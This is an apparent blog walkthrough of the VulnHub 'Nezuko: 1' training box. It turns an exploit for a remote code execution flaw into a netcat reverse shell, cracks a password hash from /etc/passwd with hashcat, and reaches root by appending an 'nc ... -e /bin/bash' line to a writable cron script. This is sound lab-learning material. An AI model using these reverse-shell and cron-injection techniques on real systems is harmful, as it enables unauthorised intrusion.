VulnHub Nezuko: 1 Walkthrough

Today we are doing nezuko: 1 from VulnHub. As usual, I also have a video walkthrough that you can find here.

This is a beginner level box and doesn’t take too long to get through.

We start of with our nmap scan: nmap -sV -sC -v -oN map1



There’s a webport so let’s take a look at that.


Ok weird but whatever. Let’s see if there’s a robots.txt file.


There is and it’s a weird string. It kind of looks like base64, but it’s not. I’m not going to go into this here as the challenge is a little bit of a time suck. In the end it gives a rather pointless hint.After finding the robots.txt file, I also ran a gobuster search: gobuster dir -u -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt

It produced one directory that was basically a dead end. I decided to run another nmap scan as I worked on the string from the robots.txt file.

nmap -sC -sV -v -p- -oN map2

And this would make solving the string puzzle utterly useless.Here we find another web page. This one is using SSL so we’ll need to add https along with the port.


Here we confirm it’s a login page. Let’s check the version from the nmap scan and see if it’s vulnerable.


It looks like there’s a remote code execution vulnerability available. Let’s check it out.

Using searchsploit -m 47293 will copy it to the directory you’re in.


This exploit is really just a vuln scan. It doesn’t exploit anything but that doesn’t mean we can’t make it do what we want. There was also a Metasploit module available which works perfectly fine too if you want to go that route.

First, let’s just run this and see if it’s vulnerable.


Ok so this is a problem. After some quick searching it turns out that this can happen when copying scripts from a Windows environment to Linux. Opening it in a plain text editor and doing another copy paste seems to get rid of the bad character causing the problem.


Once we run it, the script confirms it’s vulnerable. Now let’s modify it to get a shell.

Basically, this script is sending a command (echo ‘flag’) and then searching to see if it executed. So if we just replacethe echo command with a netcat reverse shell, we should get a connection (assuming netcat with the -e flag is on the box).


Once the code is in place, we set up a listener, run the code and …



We get a shell as nezuko!

Let’s see upgrade our shell.It turns out that python2 is not installed, but we can still use python3.


Now let’s see what we can get into.

Looking at the /etc/passwd file we see two users … and a password hash!


Let’s crack the hash with hashcat. I copied the hash into a file and sent it to my Windows machine for cracking. Your command will be slightly different if using Linux.

hashcat64.exe -m 1800 nez.hash wordlists/rockyou.txt

After a few seconds, we get a password back … meowmeowLet’s become the zenitsu user.


Ok now we’re zenitsu. Unfortunately, zenitsu does not have sudo permissions. Let’s see if there’s anything in the user directories.


Looking at nezuko’s directory it looks like zenitsu is asking nezuko out every 5 minutes. That’s a little creepy, obsessive, and stalkerish, but maybe we can use this to our advantage. Let’s look at zenitu’s directory and see if there’s a script.



Ok we did find a script and we’re able to write to it. Let’s add a netcat line and see if we get a shell back.

We’ll setup another netcat lister on our attack machine first: nc -nlvp 8888

echo ‘nc 8888 -e /bin/bash’ >>Next I just cat the file to make sure my code was appended.


Looks good. Now we wait …

After a few minutes we get a shell back


And we’re root!!!

Let’s get the final flag.


That was nezukochan. It’s not too difficult. The obscure hint took more time to track down for me than actually rooting the box. That might have been fine except that the hint doesn’t really help unless you’re really new at this stuff. If that’s the case, then you’d probably struggle decoding the hint as well.

If you’d like to see a video walkthrough where I show the Metasploit module and string decoding you can find it here.


Happy Hacking!Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out/  Change )

Facebook photo

You are commenting using your Facebook account. Log Out /Change )

Connecting to %s